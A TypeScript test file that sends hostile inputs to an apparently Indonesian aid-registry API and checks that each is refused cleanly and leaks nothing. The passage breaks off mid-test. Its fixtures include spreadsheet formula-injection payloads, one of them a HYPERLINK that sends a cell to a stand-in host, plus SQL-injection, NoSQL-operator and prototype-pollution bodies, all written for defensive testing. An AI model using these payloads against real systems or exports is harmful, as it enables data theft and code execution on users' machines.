import ExcelJS from 'exceljs';
import type { Test } from 'supertest';
import {
  API,
  bearer,
  disburseAid,
  disbursementBody,
  errorBody,
  kubeBody,
  kubeMembers,
  nextNik,
  register,
  rseBody,
  startApi,
  type Api,
  type KubeMember,
  type TokenName,
} from '../helpers/api-client';
import { LIVENESS_BOUND_MS, slowestLivenessDuring } from '../helpers/liveness';

/**
 * The routes of daily work (the programme as data, finding people, exports, corrections and
 * life events, quantities with units, Indonesian errors) tried as an attacker, a crash and a
 * careless new user would: each bad input gets a 4xx naming the field and the rule, writes no
 * event and never stalls `/health/live`; what a viewer may learn is counts only, whatever it
 * tries; and nothing personal it sent reaches a log line.
 */

interface Ids {
  /** An RSE woman, aided in 2025. */
  rseId: string;
  rseNik: string;
  /** Another woman, never aided: her NIK is taken. */
  otherNik: string;
  kubeId: string;
  members: KubeMember[];
  /** A woman whose death is recorded. */
  deceasedId: string;
}

interface Attack {
  name: string;
  send: (api: Api, ids: Ids) => Test;
  status: number;
  code: string;
  /** The field or header the answer names, in `field` or in one of `errors`. */
  field?: string;
  /** The rule the answer names for `field`, among `errors`. */
  rule?: string;
}

const REASON = 'Salah ketik saat pendaftaran';

/** Names an attacker might hope a spreadsheet runs as a formula. */
const FORMULA_NAMES = [
  '=HYPERLINK("http://contoh.invalid/?"&A1,"Siti")',
  '+Siti Cmd',
  '-Siti Aminah+1',
  '@SUM(Siti)',
  "=cmd|' /C calc'!A0 Siti",
];

/** Personal data this spec sends in bodies, paths and queries: none of it may reach a log. */
const SECRET_NAME = 'Zulaikha Paramitha Kusumawardani';
const SECRET_NIK = '6472056407880042';

const as =
  (method: 'get' | 'post' | 'put', path: string, role: TokenName = 'operator') =>
  (api: Api): Test =>
    api.http[method](`${API}${path}`).set('Authorization', bearer(role));

const get = (path: string, role: TokenName = 'operator') => as('get', path, role);
const post = (path: string, role: TokenName = 'operator') => as('post', path, role);

/** A JSON text sent as written, so that it can hold what JSON.stringify would not. */
const raw = (request: Test, text: string) =>
  request
    .set('Content-Type', 'application/json')
    .serialize((body: string) => body)
    .send(text);

const lookup = (body: object | string, role: TokenName = 'operator', query = '') => {
  return (api: Api) => {
    const request = post(`/recipients/lookup${query}`, role)(api);
    return typeof body === 'string' ? raw(request, body) : request.send(body);
  };
};

const withSeparators = (nik: string, at: number[], separator = ' ') => {
  let text = '';
  for (let n = 0; n < nik.length; n++) text += (at.includes(n) ? separator : '') + nik[n];
  return text;
};

/** A year of the programme as the admin writes it, `targets` and the rest changeable. */
const yearBody = (fields: Record<string, unknown> = {}) => ({
  targets: { RSE: 300, KUBE: 120 },
  ceilingsRupiah: { RSE: 6_000_000, KUBE: 22_000_000 },
  reason: 'APBD 2027',
  ...fields,
});
const putYear = (year: string | number, body: object | string) => (api: Api) => {
  const request = as('put', `/programme/years/${year}`, 'admin')(api);
  return typeof body === 'string' ? raw(request, body) : request.send(body);
};

const onRecipient =
  (action: string, body: (ids: Ids) => object, of: (ids: Ids) => string = (ids) => ids.rseId) =>
  (api: Api, ids: Ids) =>
    post(`/recipients/${of(ids)}/${action}`)(api).send(body(ids));

const aid = (items: object[], fields: Record<string, unknown> = {}) =>
  onRecipient(
    'disbursements',
    () => ({ ...disbursementBody({ year: 2025, disbursedOn: '2025-09-01' }), items, ...fields }),
    (ids) => ids.kubeId,
  );
const rawAid = (itemsJson: string) => (api: Api, ids: Ids) =>
  raw(
    post(`/recipients/${ids.kubeId}/disbursements`)(api),
    `{"year":2025,"form":"MATERIALS","disbursedOn":"2025-09-01","items":${itemsJson}}`,
  );

const ATTACKS: Attack[] = [
  // GET /recipients: q, sort, standing, year.
  ...(
    [
      ['only regex metacharacters', '.*+?^${}()|[]\\', 'containsLetterOrDigit'],
      ['10,000 characters', 'a'.repeat(10_000), 'isLength'],
      ['ReDoS-shaped, 5,000 characters', `${'a'.repeat(4_999)}!`, 'isLength'],
      ['only emoji', '😀🙏🏽', 'containsLetterOrDigit'],
      ['only a NUL', '\u0000', 'containsLetterOrDigit'],
      ['only an RTL override', '\u202e', 'containsLetterOrDigit'],
      ['only SQL wildcards', '%_%', 'containsLetterOrDigit'],
      ['empty', '', 'isLength'],
      ['nine words', 'a b c d e f g h i', 'maxWords'],
    ] as const
  ).map(([what, q, rule]): Attack => ({
    name: `q ${what}`,
    send: get(`/recipients?q=${encodeURIComponent(q)}`),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'q',
    rule,
  })),
  {
    name: 'q given twice (q=a&q=b)',
    send: get('/recipients?q=siti&q=aminah'),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'q',
  },
  {
    name: 'q as an object (q[$regex]=.*)',
    send: get(`/recipients?${encodeURIComponent('q[$regex]')}=siti`),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'q[$regex]',
  },
  ...['junk', '__proto__', 'constructor', 'name;DROP TABLE', '-name', 'registeredPosition'].map(
    (sort): Attack => ({
      name: `sort=${sort}`,
      send: get(`/recipients?sort=${encodeURIComponent(sort)}`),
      status: 400,
      code: 'INVALID_INPUT',
      field: 'sort',
      rule: 'isIn',
    }),
  ),
  {
    name: 'sort given twice',
    send: get('/recipients?sort=name&sort=regency'),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'sort',
  },
  ...['DEAD', 'DECEASED', 'toString', ''].map((standing): Attack => ({
    name: `standing=${standing}`,
    send: get(`/recipients?standing=${standing}`),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'standing',
    rule: 'isIn',
  })),
  ...['99999', '1999', '2025.5', '1e3', '0x7E9', 'abc', ' 2025', '2025&year=2024'].map(
    (year): Attack => ({
      name: `year=${year} on the list`,
      send: get(`/recipients?year=${year.includes('&') ? year : encodeURIComponent(year)}`),
      status: 400,
      code: 'INVALID_INPUT',
      field: 'year',
    }),
  ),
  {
    name: 'a viewer naming a field the list has not (name=)',
    send: get(`/recipients?name=${encodeURIComponent(SECRET_NAME)}`, 'viewer'),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'name',
  },
  // POST /recipients/lookup.
  {
    name: 'a lookup with the NIK in the URL query and none in the body',
    send: (api, { rseNik }) => lookup({}, 'operator', `?nik=${rseNik}`)(api),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'nik',
  },
  {
    name: 'a lookup with the NIK in the URL query and another in the body',
    send: (api, { rseNik, otherNik }) =>
      lookup({ nik: otherNik }, 'operator', `?nik=${rseNik}`)(api),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'nik',
  },
  {
    name: 'a lookup with the NIK as a JSON number',
    send: (api, { rseNik }) => lookup(`{"nik":${rseNik}}`)(api),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'nik',
    rule: 'matches',
  },
  {
    name: 'a lookup with the NIK as a list',
    send: (api, { rseNik }) => lookup({ nik: [rseNik] })(api),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'nik',
  },
  {
    name: 'a lookup with the NIK as an object ({$ne: null})',
    send: lookup({ nik: { $ne: null } }),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'nik',
  },
  ...(
    [
      ['17 digits', (nik: string) => `${nik}1`],
      ['15 digits', (nik: string) => nik.slice(1)],
      ['a separator inside a part', (nik: string) => withSeparators(nik, [3])],
      ['a doubled separator', (nik: string) => withSeparators(nik, [4], '  ')],
      ['a trailing dash', (nik: string) => `${nik}-`],
      ['a slash', (nik: string) => withSeparators(nik, [4], '/')],
      ['an underscore', (nik: string) => withSeparators(nik, [4], '_')],
      ['a tab', (nik: string) => withSeparators(nik, [4], '\t')],
      ['a zero-width space', (nik: string) => withSeparators(nik, [4], '\u200b')],
      ['full-width digits', (nik: string) => nik.replace(/\d/g, (d) => '０１２３４５６７８９'[+d])],
      ['Arabic-Indic digits', (nik: string) => nik.replace(/\d/g, (d) => '٠١٢٣٤٥٦٧٨٩'[+d])],
      ['a leading plus', (nik: string) => `+${nik}`],
      ['an exponent', () => '6.472055203900001e15'],
    ] as const
  ).map(([what, write]): Attack => ({
    name: `a lookup with a NIK with ${what}`,
    send: (api, { rseNik }) => lookup({ nik: write(rseNik) })(api),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'nik',
    rule: 'matches',
  })),
  {
    name: 'a lookup with an Idempotency-Key',
    send: (api, { rseNik }) => lookup({ nik: rseNik })(api).set('Idempotency-Key', 'k-1'),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'Idempotency-Key',
  },
  {
    name: 'a lookup with an unknown field beside the NIK',
    send: (api, { rseNik }) => lookup({ nik: rseNik, name: SECRET_NAME })(api),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'name',
  },
  // GET /recipients/export and /audit/disbursements.
  ...(
    [
      ['format=pdf', 'format'],
      ['format=CSV', 'format'],
      ['format=csv&format=xlsx', 'format'],
      ['format=xlsx&delimiter=%3B', 'delimiter'],
      ['delimiter=%7C', 'delimiter'],
      ['delimiter=%09', 'delimiter'],
      ['limit=10', 'limit'],
      ['sort=name', 'sort'],
      ['q=%25', 'q'],
      ['year=1e3', 'year'],
    ] as const
  ).map(([query, field]): Attack => ({
    name: `GET /recipients/export?${query}`,
    send: get(`/recipients/export?${query}`),
    status: 400,
    code: 'INVALID_INPUT',
    field,
  })),
  ...(
    [
      ['format=xlsx&delimiter=%3B', 'delimiter'],
      ['format=xls', 'format'],
      ['delimiter=%3B%3B', 'delimiter'],
    ] as const
  ).map(([query, field]): Attack => ({
    name: `GET /audit/disbursements?${query}`,
    send: get(`/audit/disbursements?${query}`, 'auditor'),
    status: 400,
    code: 'INVALID_INPUT',
    field,
  })),
  ...['2025-02-30', '2025-13-01', '25-06-30', '2025-06-30T00:00:00Z', '99999-01-01', 'today'].map(
    (day): Attack => ({
      name: `GET /audit/quota-progress?businessAsOf=${day}`,
      send: get(`/audit/quota-progress?businessAsOf=${encodeURIComponent(day)}`, 'auditor'),
      status: 400,
      code: 'INVALID_INPUT',
      field: 'businessAsOf',
    }),
  ),
  {
    name: 'GET /audit/quota-progress?businessAsOf= given twice',
    send: get('/audit/quota-progress?businessAsOf=2025-06-30&businessAsOf=2025-07-30', 'auditor'),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'businessAsOf',
  },
  // PUT /programme/years/{year}.
  ...['99999', '1999', '2101', '0x7EB', '2027.0', '1e3', '-2027'].map((year): Attack => ({
    name: `PUT /programme/years/${year}`,
    send: putYear(year, yearBody()),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'year',
  })),
  {
    name: 'a year whose targets hold __proto__',
    send: putYear(
      2027,
      JSON.stringify(yearBody()).replace(
        '"targets":{',
        '"targets":{"__proto__":{"RSE":999999,"polluted":1},',
      ),
    ),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'targets.__proto__',
  },
  {
    name: 'a year whose body holds __proto__',
    send: putYear(2027, JSON.stringify(yearBody()).replace('{', '{"__proto__":{"isAdmin":true},')),
    status: 400,
    code: 'INVALID_INPUT',
    field: '__proto__',
  },
  {
    name: 'a year whose targets hold constructor',
    send: putYear(
      2027,
      yearBody({ targets: { RSE: 300, KUBE: 120, constructor: { prototype: { x: 1 } } } }),
    ),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'targets.constructor',
  },
  {
    name: 'a year whose allocations name a kind that does not exist',
    send: putYear(2027, yearBody({ allocationPerRegency: { RSE: 10, KUBe: 10 } })),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'allocationPerRegency.KUBe',
  },
  ...(
    [
      ['1e308', 'targets.RSE', 'max'],
      ['1e999', 'targets.RSE', 'isInt'],
      ['-1e999', 'targets.RSE', 'isInt'],
      ['"300"', 'targets.RSE', 'isInt'],
      ['300.5', 'targets.RSE', 'isInt'],
      ['-1', 'targets.RSE', 'min'],
      ['9007199254740993', 'targets.RSE', 'max'],
      ['true', 'targets.RSE', 'isInt'],
      ['null', 'targets.RSE', 'isInt'],
    ] as const
  ).map(([value, field, rule]): Attack => ({
    name: `a year whose RSE target is ${value}`,
    send: putYear(
      2027,
      JSON.stringify(yearBody()).replace('"targets":{"RSE":300', `"targets":{"RSE":${value}`),
    ),
    status: 400,
    code: 'INVALID_INPUT',
    field,
    rule,
  })),
  {
    name: 'a year whose RSE ceiling is 0',
    send: putYear(2027, yearBody({ ceilingsRupiah: { RSE: 0, KUBE: 22_000_000 } })),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'ceilingsRupiah.RSE',
    rule: 'min',
  },
  {
    name: 'a year whose targets are a list',
    send: putYear(2027, yearBody({ targets: [300, 120] })),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'targets',
  },
  {
    name: 'a year without a reason',
    send: putYear(2027, { ...yearBody(), reason: undefined }),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'reason',
  },
  {
    name: 'a year whose allocations add up past its target',
    send: putYear(2027, yearBody({ allocationPerRegency: { RSE: 31 } })),
    status: 409,
    code: 'ALLOCATION_ABOVE_TARGET',
    field: 'allocationPerRegency.RSE',
  },
  {
    name: 'a year defined by an operator',
    send: (api) =>
      as('put', '/programme/years/2027', 'operator')(api).send(yearBody({ reason: 'coba' })),
    status: 403,
    code: 'FORBIDDEN',
  },
  // Corrections and life events.
  {
    name: 'a NIK correction to the NIK another woman holds',
    send: onRecipient('nik-corrections', ({ otherNik }) => ({ reason: REASON, newNik: otherNik })),
    status: 409,
    code: 'NIK_ALREADY_REGISTERED',
  },
  {
    name: 'a NIK correction to her own NIK written with separators',
    send: onRecipient('nik-corrections', ({ rseNik }) => ({
      reason: REASON,
      newNik: withSeparators(rseNik, [4, 8, 12]),
    })),
    status: 400,
    code: 'NIK_UNCHANGED',
  },
  {
    name: 'a NIK correction of an RSE woman to a man’s NIK',
    send: onRecipient('nik-corrections', () => ({ reason: REASON, newNik: nextNik('male') })),
    status: 400,
    code: 'NIK_NOT_FEMALE',
    field: 'newNik',
  },
  {
    name: 'a NIK correction to a KUBe member’s NIK held in the same group',
    send: onRecipient(
      'nik-corrections',
      ({ members }) => ({ reason: REASON, nik: members[0].nik, newNik: members[1].nik }),
      (ids) => ids.kubeId,
    ),
    status: 400,
    code: 'DUPLICATE_MEMBER_NIK',
  },
  {
    name: 'a NIK correction with the new NIK as a number',
    send: (api, { rseId }) =>
      raw(
        post(`/recipients/${rseId}/nik-corrections`)(api),
        `{"reason":"${REASON}","newNik":${nextNik('female')}}`,
      ),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'newNik',
  },
  {
    name: 'a member replaced by someone already in the same group',
    send: onRecipient(
      'member-replacements',
      ({ members }) => ({
        departure: 'LEFT',
        effectiveOn: '2025-09-01',
        reason: REASON,
        leavingNik: members[4].nik,
        newMember: { nik: members[3].nik, name: 'Rina Marlina' },
      }),
      (ids) => ids.kubeId,
    ),
    status: 400,
    code: 'DUPLICATE_MEMBER_NIK',
  },
  {
    name: 'a member replaced by herself',
    send: onRecipient(
      'member-replacements',
      ({ members }) => ({
        departure: 'LEFT',
        effectiveOn: '2025-09-01',
        reason: REASON,
        leavingNik: members[4].nik,
        newMember: { nik: members[4].nik, name: 'Rina Marlina' },
      }),
      (ids) => ids.kubeId,
    ),
    status: 400,
    code: 'DUPLICATE_MEMBER_NIK',
  },
  {
    name: 'a member replaced on 2025-02-30',
    send: onRecipient(
      'member-replacements',
      ({ members }) => ({
        departure: 'DIED',
        effectiveOn: '2025-02-30',
        reason: REASON,
        leavingNik: members[4].nik,
        newMember: { nik: nextNik('male'), name: 'Rudi Hartono' },
      }),
      (ids) => ids.kubeId,
    ),
    status: 400,
    code: 'INVALID_DATE',
    field: 'effectiveOn',
  },
  {
    name: 'a member replacement with a role that does not exist',
    send: onRecipient(
      'member-replacements',
      ({ members }) => ({
        departure: 'LEFT',
        effectiveOn: '2025-09-01',
        reason: REASON,
        leavingNik: members[4].nik,
        newMember: { nik: nextNik('male'), name: 'Rudi Hartono', role: 'KING' },
      }),
      (ids) => ids.kubeId,
    ),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'newMember.role',
  },
  ...(
    [
      ['64.99', 'UNKNOWN_REGENCY'],
      ['72.01', 'UNKNOWN_REGENCY'],
      ['64.7', 'INVALID_INPUT'],
      ['6472', 'INVALID_INPUT'],
      ['64.72 ', 'INVALID_INPUT'],
      ['__proto__', 'INVALID_INPUT'],
    ] as const
  ).map(([toRegencyCode, code]): Attack => ({
    name: `a move to ${JSON.stringify(toRegencyCode)}`,
    send: onRecipient('moves', () => ({
      toRegencyCode,
      movedOn: '2025-09-01',
      reason: 'Pindah',
    })),
    status: 400,
    code,
    field: 'toRegencyCode',
  })),
  {
    name: 'a move to where she lives',
    send: onRecipient('moves', () => ({
      toRegencyCode: '64.72',
      movedOn: '2025-09-01',
      reason: 'Pindah',
    })),
    status: 400,
    code: 'SAME_REGENCY',
    field: 'toRegencyCode',
  },
  ...(
    [
      ['2025-02-30', 400, 'INVALID_DATE'],
      ['2025-02-29', 400, 'INVALID_DATE'],
      // A rule (today), as for every business date: 409.
      ['9999-12-31', 409, 'DATE_IN_FUTURE'],
      ['2025-09-16', 409, 'DATE_IN_FUTURE'],
      ['2025-9-1', 400, 'INVALID_INPUT'],
      ['+02025-09-01', 400, 'INVALID_INPUT'],
    ] as const
  ).map(([movedOn, status, code]): Attack => ({
    name: `a move dated ${movedOn}`,
    send: onRecipient('moves', () => ({ toRegencyCode: '64.71', movedOn, reason: 'Pindah' })),
    status,
    code,
    field: 'movedOn',
  })),
  {
    name: 'a death dated far in the future',
    send: onRecipient('death', () => ({ diedOn: '2999-01-01', reason: 'Sakit' })),
    status: 409,
    code: 'DATE_IN_FUTURE',
    field: 'diedOn',
  },
  {
    name: 'a second death',
    send: onRecipient(
      'death',
      () => ({ diedOn: '2025-09-02', reason: 'Sakit' }),
      (ids) => ids.deceasedId,
    ),
    status: 409,
    code: 'ALREADY_DECEASED',
  },
  {
    name: 'a withdrawal after her death',
    send: onRecipient(
      'withdrawal',
      () => ({ withdrawnOn: '2025-09-02', reason: 'Mundur' }),
      (ids) => ids.deceasedId,
    ),
    status: 409,
    code: 'RECIPIENT_DECEASED',
  },
  {
    name: 'a details correction that changes nothing',
    send: onRecipient('detail-corrections', () => ({ reason: REASON, name: 'Siti Aminah' })),
    status: 400,
    code: 'NOTHING_TO_CORRECT',
  },
  {
    name: 'a details correction removing her name (null)',
    send: onRecipient('detail-corrections', () => ({ reason: REASON, name: null })),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'name',
  },
  {
    name: 'a details correction removing the group’s name (null)',
    send: onRecipient(
      'detail-corrections',
      () => ({ reason: REASON, groupName: null }),
      (ids) => ids.kubeId,
    ),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'groupName',
  },
  {
    name: 'a details correction removing her business (null)',
    send: onRecipient('detail-corrections', () => ({ reason: REASON, businessType: null })),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'businessType',
  },
  {
    name: 'a details correction of members: null',
    send: onRecipient(
      'detail-corrections',
      () => ({ reason: REASON, members: null }),
      (ids) => ids.kubeId,
    ),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'members',
  },
  {
    name: 'a KUBe NIK correction naming the member by nik: null',
    send: onRecipient(
      'nik-corrections',
      () => ({ reason: REASON, nik: null, newNik: nextNik('male') }),
      (ids) => ids.kubeId,
    ),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'nik',
  },
  {
    name: 'an RSE NIK correction with nik: null',
    send: onRecipient('nik-corrections', () => ({
      reason: REASON,
      nik: null,
      newNik: nextNik('female'),
    })),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'nik',
  },
  {
    name: 'a details correction with a name starting with a tab',
    send: onRecipient('detail-corrections', () => ({ reason: REASON, name: 'Siti\tAminah' })),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'name',
    rule: 'noControlCharacters',
  },
  {
    name: 'a details correction with a name holding a CR',
    send: onRecipient('detail-corrections', () => ({ reason: REASON, name: 'Siti\r=1+1' })),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'name',
    rule: 'noControlCharacters',
  },
  {
    name: 'a details correction of a member the group does not have',
    send: onRecipient(
      'detail-corrections',
      () => ({ reason: REASON, members: [{ nik: nextNik('male'), name: 'Rudi Hartono' }] }),
      (ids) => ids.kubeId,
    ),
    status: 409,
    code: 'NOT_A_MEMBER',
  },
  {
    name: 'a details correction with __proto__ among its fields',
    send: (api, { rseId }) =>
      raw(
        post(`/recipients/${rseId}/detail-corrections`)(api),
        `{"reason":"${REASON}","__proto__":{"name":"Siti Baru"}}`,
      ),
    status: 400,
    code: 'INVALID_INPUT',
    field: '__proto__',
  },
  // Quantities with units.
  ...(
    [
      [
        '1e-7 kg',
        '[{"description":"Tepung","quantity":1e-7,"unit":"kg","unitPriceRupiah":1000}]',
        'items.0.quantity',
      ],
      [
        '0.0005 kg',
        '[{"description":"Tepung","quantity":0.0005,"unit":"kg","unitPriceRupiah":1000}]',
        'items.0.quantity',
      ],
      [
        '"2.5" kg (a string)',
        '[{"description":"Tepung","quantity":"2.5","unit":"kg","unitPriceRupiah":14000}]',
        'items.0.quantity',
      ],
      [
        '1e999 (Infinity)',
        '[{"description":"Tepung","quantity":1e999,"unit":"kg","unitPriceRupiah":1}]',
        'items.0.quantity',
      ],
      [
        '-1e999 (-Infinity)',
        '[{"description":"Tepung","quantity":-1e999,"unit":"kg","unitPriceRupiah":1}]',
        'items.0.quantity',
      ],
      [
        '-0 kg',
        '[{"description":"Tepung","quantity":-0,"unit":"kg","unitPriceRupiah":1}]',
        'items.0.quantity',
      ],
      [
        '0 kg',
        '[{"description":"Tepung","quantity":0.000,"unit":"kg","unitPriceRupiah":1}]',
        'items.0.quantity',
      ],
      [
        '1e21 pcs',
        '[{"description":"Tepung","quantity":1e21,"unit":"pcs","unitPriceRupiah":1}]',
        'items.0.quantity',
      ],
      [
        '2.5 without a unit',
        '[{"description":"Tepung","quantity":2.5,"unitPriceRupiah":14000}]',
        'items.0.quantity',
      ],
      [
        '2.5 of unit null',
        '[{"description":"Tepung","quantity":2.5,"unit":null,"unitPriceRupiah":14000}]',
        'items.0.quantity',
      ],
      [
        '2.5 sak',
        '[{"description":"Semen","quantity":2.5,"unit":"sak","unitPriceRupiah":14000}]',
        'items.0.quantity',
      ],
      [
        '0.333 kg × 10',
        '[{"description":"Tepung","quantity":0.333,"unit":"kg","unitPriceRupiah":10}]',
        'items.0.quantity',
      ],
      [
        'a unit __proto__',
        '[{"description":"Tepung","quantity":1,"unit":"__proto__","unitPriceRupiah":10}]',
        'items.0.unit',
      ],
      [
        'a unit toString',
        '[{"description":"Tepung","quantity":1,"unit":"toString","unitPriceRupiah":10}]',
        'items.0.unit',
      ],
      [
        'a unit as a list',
        '[{"description":"Tepung","quantity":1,"unit":["kg"],"unitPriceRupiah":10}]',
        'items.0.unit',
      ],
      [
        'a price of 0.5',
        '[{"description":"Tepung","quantity":2,"unit":"kg","unitPriceRupiah":0.5}]',
        'items.0.unitPriceRupiah',
      ],
      [
        'a price of "14000"',
        '[{"description":"Tepung","quantity":2,"unit":"kg","unitPriceRupiah":"14000"}]',
        'items.0.unitPriceRupiah',
      ],
    ] as const
  ).map(([what, itemsJson, field]): Attack => ({
    name: `an item of ${what}`,
    send: rawAid(itemsJson),
    status: 400,
    code: 'INVALID_INPUT',
    field,
  })),
  {
    name: 'three lines of 0.1 kg × 10 plus more, past the KUBe ceiling by Rp1',
    send: aid([
      { description: 'Gula', quantity: 0.1, unit: 'kg', unitPriceRupiah: 10 },
      { description: 'Garam', quantity: 0.1, unit: 'kg', unitPriceRupiah: 10 },
      { description: 'Kopi', quantity: 0.1, unit: 'kg', unitPriceRupiah: 10 },
      { description: 'Mesin', quantity: 1, unitPriceRupiah: 19_999_998 },
    ]),
    status: 409,
    code: 'VALUE_ABOVE_CEILING',
    field: 'items',
  },
  // Accept-Language never changes what is refused, however it is written.
  ...[
    'id;'.repeat(3_000),
    `${'x'.repeat(8_000)}-id`,
    `id-${'a1-'.repeat(3_000)}!`,
    ',;q=0.5,'.repeat(1_000),
    'id;q=NaN',
    'id;q=1e3',
    'id;q=-1',
    'id;q=0.99999999',
    '*;q=0.5, id;q=0.5000',
    'id;q=0.1;q=0.9',
  ].map((language): Attack => ({
    name: `Accept-Language ${language.length > 40 ? `of ${language.length} characters` : language}`,
    send: (api) => get('/recipients?sort=junk')(api).set('Accept-Language', language),
    status: 400,
    code: 'INVALID_INPUT',
    field: 'sort',
    rule: 'isIn',
  })),
];

/** Inputs that look dangerous but are legitimate: answered 200, still writing nothing. */
const HARMLESS: { name: string; send: (api: Api, ids: Ids) => Test }[] = [
  ...[
    '(a+)+$',
    "siti' OR '1'='1",
    'siti%',
    'siti_',
    'siti\u0000',
    'siti\u202e',
    'siti 😀',
    'ṣiti',
  ].map((q) => ({
    name: `q=${JSON.stringify(q)}`,
    send: get(`/recipients?q=${encodeURIComponent(q)}&sort=-registered`),
  })),
  {
    name: 'q of 100 characters of one word, the longest allowed',
    send: get(`/recipients?q=${'a'.repeat(100)}`),
  },
  {
    name: 'q of eight words of a hundred characters together',
    send: get(`/recipients?q=${encodeURIComponent(Array(8).fill('sitiamin').join(' '))}`),
  },
  {
    name: 'the whole registry as CSV with ; to a monitor',
    send: get('/recipients/export?format=csv&delimiter=%3B', 'monitor'),
  },
  {
    name: 'a lookup of a NIK written 64.72.05.xxxxxx.xxxx',
    send: (api, { rseNik }) =>
      lookup({
        nik: `${rseNik.slice(0, 2)}.${rseNik.slice(2, 4)}.${rseNik.slice(4, 6)}.${rseNik.slice(6, 12)}.${rseNik.slice(12)}`,
      })(api),
  },
];

/** RFC 4180 as the CSV writer writes it: the rows of cells. */
function csvRows(text: string, delimiter = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = text.startsWith('\uFEFF') ? 1 : 0; at < text.length; at++) {
    const char = text[at];
    if (quoted) {
      if (char === '"' && text[at + 1] === '"') {
        cell += '"';
        at++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === delimiter) {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[at + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      at++;
    } else cell += char;
  }
  return rows;
}

const asBuffer = (test: Test) =>
  test.buffer(true).parse((res, done) => {
    const chunks: Buffer[] = [];
    res.on('data', (chunk: Buffer) => chunks.push(chunk));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  });

describe('attacks on daily work: a 4xx naming the rule, nothing written, nothing stalled', () => {
  const logs: string[] = [];
  let api: Api;
  const ids = {} as Ids;

  beforeAll(async () => {
    api = await startApi({ logs: { write: (line) => void logs.push(line) } });
    ids.rseNik = nextNik('female');
    ids.rseId = await register(api, rseBody({ nik: ids.rseNik }));
    await disburseAid(api, ids.rseId, disbursementBody({ disbursedOn: '2025-08-01' }));
    ids.otherNik = nextNik('female');
    await register(api, rseBody({ nik: ids.otherNik, name: 'Dewi Lestari' }));
    ids.members = kubeMembers();
    ids.kubeId = await register(api, kubeBody({ members: ids.members }));
    ids.deceasedId = await register(api, rseBody({ name: 'Almarhumah Rukmini' }));
    const death = await post(`/recipients/${ids.deceasedId}/death`)(api).send({
      diedOn: '2025-09-01',
      reason: 'Surat kematian',
    });
    expect(death.status).toBe(200);
    await register(api, rseBody({ nik: SECRET_NIK, name: SECRET_NAME, phone: '0812-1111-2222' }));
  });

  afterAll(() => api.stop());

  it.each(ATTACKS)('$name → $status $code', async ({ send, status, code, field, rule }) => {
    const before = await api.headPosition();
    const { result: response, slowestMs } = await slowestLivenessDuring(api, async () =>
      send(api, ids),
    );
    expect({ status: response.status, body: response.body as unknown }).toMatchObject({
      status,
      body: { statusCode: status, code, message: expect.any(String) },
    });
    const body = errorBody(response);
    if (field !== undefined) {
      const named = [body.field, ...(body.errors ?? []).map((error) => error.field)];
      expect(named).toContain(field);
    }
    if (rule !== undefined) {
      expect(body.errors).toContainEqual({ field, rule, message: expect.any(String) });
    }
    expect(await api.headPosition()).toBe(before);
    expect(slowestMs).toBeLessThan(LIVENESS_BOUND_MS);
  });

  it.each(HARMLESS)('$name → 200, nothing written', async ({ send }) => {
    const before = await api.headPosition();
    const { result: response, slowestMs } = await slowestLivenessDuring(api, async () =>
      send(api, ids),
    );
    expect({ status: response.status, body: response.body as unknown }).toMatchObject({
      status: 200,
    });
    expect(await api.headPosition()).toBe(before);
    expect(slowestMs).toBeLessThan(LIVENESS_BOUND_MS);
  });

  describe('a viewer learns counts, never whether a person is in the programme', () => {
    const viewerRoutes = (nik: string, name: string): ((api: Api) => Test)[] => [
      get(`/recipients?q=${encodeURIComponent(name)}`, 'viewer'),
      get(`/recipients?q=${encodeURIComponent(name)}&limit=1`, 'viewer'),
      get(`/recipients/export?q=${encodeURIComponent(name)}`, 'viewer'),
      get(`/recipients/export?format=xlsx`, 'viewer'),
      lookup({ nik }, 'viewer'),
      lookup({ nik: `${nik.slice(0, 4)} ${nik.slice(4)}` }, 'viewer'),
    ];

    it('gets the same 403, word for word, for a person in the programme and one not in it', async () => {
      const inside = viewerRoutes(SECRET_NIK, SECRET_NAME);
      const outside = viewerRoutes(nextNik('female'), 'Nobody Notregistered');
      for (let n = 0; n < inside.length; n++) {
        const [yes, no] = [await inside[n](api), await outside[n](api)];
        expect(yes.status).toBe(403);
        expect({ status: no.status, body: no.body as unknown }).toEqual({
          status: yes.status,
          body: yes.body as unknown,
        });
        expect(JSON.stringify(yes.body)).not.toMatch(/Zulaikha|6472056407880042/i);
      }
    });

    it('cannot narrow a count down to one person by any filter the list takes', async () => {
      for (const path of [
        `/recipients?name=${encodeURIComponent(SECRET_NAME)}`,
        `/recipients?nik=${SECRET_NIK}`,
        `/recipients?nikHash=x`,
